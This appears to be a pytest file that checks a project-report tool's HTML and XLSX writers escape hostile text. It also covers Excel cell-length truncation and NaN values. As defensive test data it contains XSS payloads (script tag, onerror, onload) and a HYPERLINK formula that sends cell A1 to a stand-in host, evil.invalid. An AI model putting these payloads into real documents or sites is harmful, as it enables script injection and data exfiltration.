"""Hostile text in *every* text field of the report model (as if each came from a source system):
the HTML shows it as text (no element, attribute or script is created) and the XLSX never holds a
formula. Literal fields (statuses, kinds) are overwritten too, since templates put some of them into
attributes such as ``class``."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
from pydantic import BaseModel

from pmsync.report.model import Report
from pmsync.report.writers.html import render_html
from pmsync.report.writers.xlsx import xlsx_bytes

from .htmlcheck import parse
from .sample import sample_report

BREAKOUT = "\"'><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'


def hostile(value: Any, text: str) -> Any:
    """``value`` with every string inside it (model fields, list items) replaced by ``text``."""
    if isinstance(value, str):
        return text
    if isinstance(value, BaseModel):
        return value.model_copy(
            update={name: hostile(getattr(value, name), text) for name in type(value).model_fields}
        )
    if isinstance(value, list):
        return [hostile(item, text) for item in value]
    return value


def test_every_text_field_is_escaped_in_html() -> None:
    report: Report = hostile(sample_report(), BREAKOUT)
    page = parse(render_html(report))
    assert page.find("script") == [] and page.find("img") == []
    assert all(not name.startswith("on") for element in page.elements for name in element.attrs)
    assert [e for e in page.find("svg") if "onload" in e.attrs] == []
    assert page.text.count(BREAKOUT) > 50  # the text is still there, for a reader to see


def test_every_text_field_is_inert_in_xlsx() -> None:
    report: Report = hostile(sample_report(), FORMULA)
    data = xlsx_bytes(report)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert len(cells) > 50 and all(c.data_type == "s" and c.quotePrefix for c in cells)


def _cells(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_text_that_looks_like_a_link_stays_text_in_xlsx() -> None:
    """A writer that guesses from the text would make a clickable link of a source's text."""
    link = "https://evil.invalid/login"
    data = xlsx_bytes(hostile(sample_report(), link))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        assert not [n for n in names if "hyperlink" in archive.read(n).decode("utf-8", "replace")]
    assert len([c for c in _cells(data) if c.value == link]) > 50


def test_text_over_excels_cell_limit_is_cut_and_says_so() -> None:
    """Excel holds 32,767 characters per cell and asks to repair a file with more; the cut text
    ends saying where the whole text is."""
    long_text = "Vendor note. " * 3000  # 39,000 characters
    report = sample_report()
    erp = report.projects[0]
    erp = erp.model_copy(update={"risks": [erp.risks[0].model_copy(update={"mitigation": long_text})]})
    data = xlsx_bytes(report.model_copy(update={"projects": [erp, *report.projects[1:]]}))
    cut = [c.value for c in _cells(data) if isinstance(c.value, str) and c.value.startswith("Vendor note.")]
    assert cut and all(len(text) == 32_767 for text in cut)
    assert all(text.endswith("the HTML and JSON reports have the whole text]") for text in cut)


def test_a_figure_that_is_not_a_number_is_written_as_text() -> None:
    """A source's "NaN" probability reaches the model as a float; Excel has no NaN, and the report
    must not fail over one figure."""
    report = sample_report()
    erp = report.projects[0]
    erp = erp.model_copy(update={"risks": [erp.risks[0].model_copy(update={"probability": float("nan")})]})
    data = xlsx_bytes(report.model_copy(update={"projects": [erp, *report.projects[1:]]}))
    assert "nan" in [c.value for c in _cells(data)]
